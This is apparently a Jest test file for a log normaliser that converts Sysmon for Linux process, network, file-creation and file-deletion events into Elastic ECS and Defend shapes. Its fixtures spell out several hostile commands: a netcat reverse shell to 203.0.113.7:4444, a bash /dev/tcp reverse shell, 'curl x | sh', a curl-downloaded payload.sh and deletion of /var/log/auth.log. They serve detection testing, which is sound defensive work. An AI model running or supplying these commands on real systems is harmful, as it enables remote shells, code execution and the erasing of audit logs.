/**
 * Sysmon for Linux ids 1, 3, 11 and 23, built from the event_data fields that the
 * sysmon_linux integration pipeline reads (elastic/integrations packages/sysmon_linux,
 * data_stream/log/elasticsearch/ingest_pipeline/default.yml), and checked against what
 * that pipeline writes. Each is fed both as the syslog XML line and as decoded winlog JSON.
 */
import { normalizeLines } from '../normalize';
import { parseSyslogHeader, parseSysmonLine } from './parse';
import { splitCommandLine } from './ecs';
import { splitArgs } from '../endpoint';
import type { Doc } from '../field';

const esc = (v: string) =>
  v.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

function xmlLine(id: number, data: Record<string, string>): string {
  const fields = Object.entries(data)
    .map(([k, v]) => `<Data Name="${k}">${esc(v)}</Data>`)
    .join('');
  return (
    `Oct 24 17:06:14 build-01 sysmon[811]: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>` +
    `<EventID>${id}</EventID><Version>5</Version><Level>4</Level><Task>${id}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>` +
    `<TimeCreated SystemTime="2022-10-24T17:06:14.193456000Z"/><EventRecordID>24</EventRecordID><Correlation/>` +
    `<Execution ProcessID="811" ThreadID="811"/><Channel>Linux-Sysmon/Operational</Channel><Computer>build-01</Computer>` +
    `<Security UserId="0"/></System><EventData>${fields}</EventData></Event>`
  );
}

function winlogJson(id: number, data: Record<string, string>): string {
  return JSON.stringify({
    log: { syslog: { hostname: 'build-01', appname: 'sysmon', procid: '811' } },
    winlog: {
      event_id: String(id),
      computer_name: 'build-01',
      channel: 'Linux-Sysmon/Operational',
      level: 'information',
      record_id: '24',
      time_created: '2022-10-24T17:06:14.193Z',
      process: { pid: 811, thread: { id: 811 } },
      event_data: { ...data, provider_name: 'Linux-Sysmon', opcode: 'Info', version: '5' },
    },
  });
}

const head = {
  RuleName: '-',
  UtcTime: '2022-10-24 17:06:14.200',
  ProcessGuid: '{d65774de-8d1e-6175-f1b8-2c2c3a560000}',
  ProcessId: '4102',
};
const EVENTS: Record<number, Record<string, string>> = {
  1: {
    ...head,
    Image: '/usr/bin/nc.openbsd',
    FileVersion: '-',
    CommandLine: 'nc -e /bin/sh 203.0.113.7 4444',
    CurrentDirectory: '/root',
    User: 'root',
    LogonGuid: '{d65774de-0000-0000-0000-000000000000}',
    LogonId: '0',
    Hashes: 'SHA256=ABCDEF0123',
    ParentProcessGuid: '{d65774de-8d1e-6175-11aa-2c2c3a560000}',
    ParentProcessId: '4101',
    ParentImage: '/usr/bin/dash',
    ParentCommandLine: 'sh -c "nc -e /bin/sh 203.0.113.7 4444"',
    ParentUser: 'root',
  },
  3: {
    ...head,
    Image: '/usr/bin/nc.openbsd',
    User: 'root',
    Protocol: 'tcp',
    Initiated: 'true',
    SourceIsIpv6: 'false',
    SourceIp: '10.0.0.4',
    SourceHostname: '-',
    SourcePort: '51234',
    SourcePortName: '-',
    DestinationIsIpv6: 'false',
    DestinationIp: '203.0.113.7',
    DestinationHostname: '-',
    DestinationPort: '4444',
    DestinationPortName: '-',
  },
  11: {
    ...head,
    Image: '/usr/bin/curl',
    TargetFilename: '/tmp/payload.sh',
    CreationUtcTime: '2022-10-24 17:06:14.200',
    User: 'root',
  },
  23: {
    ...head,
    User: 'root',
    Image: '/usr/bin/rm',
    TargetFilename: '/var/log/auth.log',
    Hashes: 'SHA1=00AB,MD5=0000',
    IsExecutable: 'false',
    Archived: 'false',
  },
};

const EXPECTED: Record<number, Doc> = {
  1: {
    event: {
      code: '1',
      action: 'log',
      kind: 'event',
      category: ['process'],
      type: ['start'],
      provider: 'Linux-Sysmon',
    },
    process: {
      entity_id: '{d65774de-8d1e-6175-f1b8-2c2c3a560000}',
      pid: 4102,
      executable: '/usr/bin/nc.openbsd',
      command_line: 'nc -e /bin/sh 203.0.113.7 4444',
      args: ['nc', '-e', '/bin/sh', '203.0.113.7', '4444'],
      args_count: 5,
      working_directory: '/root',
      hash: { sha256: 'abcdef0123' },
      parent: {
        entity_id: '{d65774de-8d1e-6175-11aa-2c2c3a560000}',
        pid: 4101,
        executable: '/usr/bin/dash',
        command_line: 'sh -c "nc -e /bin/sh 203.0.113.7 4444"',
        args: ['sh', '-c', 'nc -e /bin/sh 203.0.113.7 4444'],
        args_count: 3,
      },
    },
    related: { hash: ['abcdef0123'] },
    host: { hostname: 'build-01' },
  },
  3: {
    event: { code: '3', category: ['network'], type: ['start', 'connection', 'protocol'] },
    network: { transport: 'tcp', direction: 'egress', type: 'ipv4' },
    source: { ip: '10.0.0.4', port: 51234 },
    destination: { ip: '203.0.113.7', port: 4444 },
    related: { ip: ['10.0.0.4', '203.0.113.7'] },
    process: { pid: 4102, executable: '/usr/bin/nc.openbsd' },
  },
  11: {
    event: { code: '11', category: ['file'], type: ['creation'] },
    file: { path: '/tmp/payload.sh' },
    process: { executable: '/usr/bin/curl' },
  },
  23: {
    event: { code: '23', category: ['file'], type: ['deletion'] },
    file: { path: '/var/log/auth.log' },
    process: { hash: { sha1: '00ab' } },
    sysmon: { file: { is_executable: false, archived: false } },
  },
};

describe('Sysmon for Linux → ECS (integration shape, per the sysmon_linux pipeline)', () => {
  for (const id of [1, 3, 11, 23]) {
    it(`maps event id ${id} from the syslog XML line and from decoded winlog JSON alike`, () => {
      for (const line of [xmlLine(id, EVENTS[id]), winlogJson(id, EVENTS[id])]) {
        const { events, errors } = normalizeLines([line], { format: 'sysmon-linux' });
        expect(errors).toEqual([]);
        expect(events).toHaveLength(1);
        expect(events[0]).toMatchObject(EXPECTED[id]);
        expect(events[0]).toMatchObject({
          '@timestamp': '2022-10-24T17:06:14.200Z',
          _index: 'logs-sysmon_linux.log-default',
        });
        // quirks of the pipeline: no user.name from a bare "root", process.name is the syslog app for non-process ids
        expect((events[0].user as Doc | undefined)?.name).toBeUndefined();
        if (id === 1) expect((events[0].process as Doc).hash).not.toHaveProperty('md5');
      }
    });
  }

  it('maps the same events to Defend shape', () => {
    const lines = [1, 3, 11, 23].map((id) => xmlLine(id, EVENTS[id]));
    const { events, errors } = normalizeLines(lines, { format: 'sysmon-linux', shape: 'endpoint' });
    expect(errors).toEqual([]);
    expect(events.map((e) => [(e.event as Doc).action, e._index])).toEqual([
      ['exec', 'logs-endpoint.events.process-default'],
      ['connection_attempted', 'logs-endpoint.events.network-default'],
      ['creation', 'logs-endpoint.events.file-default'],
      ['deletion', 'logs-endpoint.events.file-default'],
    ]);
    const entity = (events[0].process as Doc).entity_id;
    expect(typeof entity).toBe('string');
    for (const e of events) expect((e.process as Doc).entity_id).toBe(entity);
    expect(events[0]).toMatchObject({
      host: { id: 'build-01', name: 'build-01', os: { type: 'linux' } },
      process: {
        name: 'nc.openbsd',
        args: ['nc', '-e', '/bin/sh', '203.0.113.7', '4444'],
        parent: { pid: 4101, name: 'dash', executable: '/usr/bin/dash' },
      },
      user: { name: 'root', id: '0' },
    });
    expect(typeof ((events[0].process as Doc).parent as Doc).entity_id).toBe('string');
  });

  it('reports unreadable lines with their number', () => {
    const bad = [
      'Oct 24 17:06:14 h sysmon: no xml',
      'x <Event><System><EventID>1</EventID></System>',
      xmlLine(1, EVENTS[1]).replace('</EventID>', ''),
    ];
    const { events, errors } = normalizeLines(bad, { format: 'sysmon-linux' });
    expect(events).toEqual([]);
    expect(errors.map((e) => e.line)).toEqual([1, 2, 3]);
  });

  it('parses RFC 3164 and RFC 5424 syslog headers', () => {
    expect(parseSyslogHeader('Oct  4 07:06:14 web-1 sysmon[12]: ', 2022)).toEqual({
      timestamp: '2022-10-04T07:06:14.000Z',
      hostname: 'web-1',
      appname: 'sysmon',
      procid: '12',
    });
    expect(parseSyslogHeader('<14>1 2022-10-24T17:06:14.5Z web-1 sysmon 12 - - ', 2000)).toMatchObject({
      hostname: 'web-1',
      appname: 'sysmon',
      procid: '12',
    });
    expect(parseSysmonLine(xmlLine(3, EVENTS[3])).winlog).toMatchObject({
      event_id: '3',
      level: 'information',
      opcode: 'Info',
      record_id: '24',
    });
  });

  it('splits joined Linux command lines for the endpoint shape, keeping a shell -c script whole', () => {
    expect(splitArgs('nc -e /bin/sh 1.2.3.4 4444')).toEqual(['nc', '-e', '/bin/sh', '1.2.3.4', '4444']);
    expect(splitArgs('sh -c -- bash -c "bash -i >& /dev/tcp/1.2.3.4/443 0>&1" &')).toEqual([
      'sh',
      '-c',
      '--',
      'bash -c "bash -i >& /dev/tcp/1.2.3.4/443 0>&1" &',
    ]);
    expect(splitArgs('/bin/bash -ec curl x | sh')).toEqual(['/bin/bash', '-ec', 'curl x | sh']);
    expect(splitArgs('bash script.sh -c x')).toEqual(['bash', 'script.sh', '-c', 'x']);
    expect(splitArgs('')).toBeUndefined();
  });

  it('splits command lines the way the pipeline does', () => {
    expect(splitCommandLine('a "b c" d\\"e "f""g"')).toEqual(['a', 'b c', 'd"e', 'f"g']);
  });
});
